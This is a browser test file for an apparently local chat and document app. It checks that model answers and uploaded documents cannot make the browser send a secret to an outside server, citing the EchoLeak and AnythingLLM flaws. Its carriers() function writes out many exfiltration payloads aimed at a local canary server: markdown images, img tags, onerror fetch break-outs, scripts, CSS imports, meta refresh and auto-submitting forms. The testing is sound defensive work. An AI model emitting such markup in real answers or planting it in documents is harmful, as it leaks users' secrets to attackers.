"""A document or an answer that would have the browser carry a secret away: nothing is asked of the address it names.

Sources of the ways: EchoLeak (CVE-2025-32711), AnythingLLM (CVE-2026-32626). The canary is a server on this machine.
"""

from collections.abc import AsyncIterator
from pathlib import Path

import pytest
import pytest_asyncio
from aiohttp import web
from aiohttp.test_utils import TestServer
from playwright.async_api import expect

from tests.browser.conftest import ScriptedServer, Visit, Visits, leave
from tests.browser.test_documents import DROP
from tests.fakes import FakeEmbedder

pytestmark = [pytest.mark.browser, pytest.mark.asyncio(loop_scope="session")]

END = "The end of it."
LETTERS = 25  # of a piece: smaller than any link, so that half of each is on the page for a while
DRAWN = "() => new Promise((then) => requestAnimationFrame(() => requestAnimationFrame(then)))"


class Canary:
    """`hits` are the paths that were asked for."""

    def __init__(self) -> None:
        self.hits: list[str] = []
        self.url = ""

    async def hear(self, request: web.Request) -> web.Response:
        self.hits.append(request.path_qs)
        return web.Response(text="")


@pytest_asyncio.fixture(loop_scope="session")
async def canary() -> AsyncIterator[Canary]:
    canary = Canary()
    app = web.Application()
    app.router.add_route("*", "/{path:.*}", canary.hear)
    async with TestServer(app) as server:
        canary.url = str(server.make_url("")).rstrip("/")
        yield canary


@pytest_asyncio.fixture(loop_scope="session")
async def shelf(tmp_path: Path, visits: list[Visit]) -> AsyncIterator[ScriptedServer]:
    server = ScriptedServer(tmp_path / "data", FakeEmbedder)
    await server.start()
    yield server
    await leave(visits)
    await server.stop()


def carriers(url: str) -> list[str]:
    """Answers with every way that we know of to have something loaded from there."""
    bare = url.removeprefix("http:")
    return [
        f"""![one]({url}/image?d=SECRET)

![two][r] and [![three]({url}/linked-image?d=SECRET)]({url}/link?d=SECRET)

[r]: {url}/reference?d=SECRET "a title"

<img src="{url}/raw?d=SECRET"> <img srcset="{url}/set?d=SECRET 1x"> <img src={bare}/no-scheme?d=SECRET>

![breaks" src="{url}/breaks-out?d=SECRET" x="]({url}/alt?d=SECRET "t" onerror=fetch('{url}/error'))

{END}""",
        f"""<svg><image href="{url}/svg?d=SECRET"/></svg><picture><source srcset="{url}/source?d=SECRET"><img></picture>

<video poster="{url}/poster?d=SECRET" src="{url}/video?d=SECRET"></video>

<iframe src="{url}/frame?d=SECRET"></iframe>

<script>fetch("{url}/ran?d=SECRET")</script> <script src="{url}/script?d=SECRET"></script>

{END}""",
        f"""<link rel="stylesheet" href="{url}/sheet?d=SECRET"> <link rel="dns-prefetch" href="{url}">

<style>@import "{url}/css";</style> <p style="background: url({url}/style?d=SECRET)">styled</p>

<meta http-equiv="refresh" content="0;url={url}/refresh?d=SECRET">

<form action="{url}/form?d=SECRET"><input autofocus onfocus="this.form.submit()"></form>

$\\includegraphics{{{url}/formula?d=SECRET}}$ <a href="{url}/ping" ping="{url}/pinged?d=SECRET">go</a>

{END}""",
    ]


async def test_the_canary_hears_a_browser(visit: Visits, scripted: ScriptedServer, canary: Canary) -> None:
    page = await visit(scripted.url, canary.url)
    await page.page.goto(f"{canary.url}/heard")
    assert "/heard" in canary.hits


async def test_an_answer_carries_nothing_away_while_it_streams_nor_afterwards(
    visit: Visits, scripted: ScriptedServer, canary: Canary
) -> None:
    answers = carriers(canary.url)
    scripted.runner.reply = lambda question: answers[int(question.partition(":")[0])]
    page = await visit(scripted.url)
    await page.open()
    for number, answer in enumerate(answers):
        scripted.runner.hold()
        await page.ask(f"{number}: ![title]({canary.url}/title?d=SECRET) <img src={canary.url}/question?d=SECRET>")
        for _ in range(0, len(answer), LETTERS):
            scripted.runner.step(LETTERS)
            await page.page.evaluate(DRAWN)
        scripted.runner.release()
        await expect(page.turn(number).locator(".answer")).to_contain_text(END)
        await page.sees("complete", number)
    await page.page.reload()
    for number in range(len(answers)):
        await expect(page.turn(number).locator(".answer")).to_contain_text(END)
    await expect(page.page.locator(".past-link").first).to_contain_text("![title]")
    await page.page.wait_for_load_state("networkidle")
    assert canary.hits == []
    assert [said for said in page.complaints if not said.startswith("Applying inline style violates")] == []
    page.complaints.clear()  # the policy held even where a text was only taken apart
    assert await page.page.locator(".turn :is(img, iframe, video, image, form, script)").count() == 0


async def test_a_document_carries_nothing_away_by_its_name_nor_by_its_text(
    visit: Visits, shelf: ScriptedServer, canary: Canary
) -> None:
    url = canary.url
    names = [f"![x]({url}/name?d=SECRET).md", f"<img src={url}/name?d=SECRET>.html", f"[x](y) {url}/name.txt"]
    files = [[name, f"{name}\n\n{text}"] for name, text in zip(names, carriers(url), strict=True)]
    page = await visit(shelf.url)
    await page.open()
    await page.page.evaluate(DROP, files)
    await page.page.click("#to-documents")
    rows = page.page.locator(".document-open")
    await expect(rows).to_have_count(len(names), timeout=60_000)
    for row in range(len(names)):
        await rows.nth(row).click()
        await expect(page.page.locator("#evidence")).to_contain_text(END)
    await page.page.click(".mode:has([value=contents])")
    await page.page.fill("#documents-search", END)
    await expect(page.page.locator(".result").first).to_be_visible()
    await page.page.reload()
    await expect(rows).to_have_count(len(names))
    await page.page.wait_for_load_state("networkidle")
    assert canary.hits == []
    assert await page.page.locator(":is(#documents, #evidence) img").count() == 0
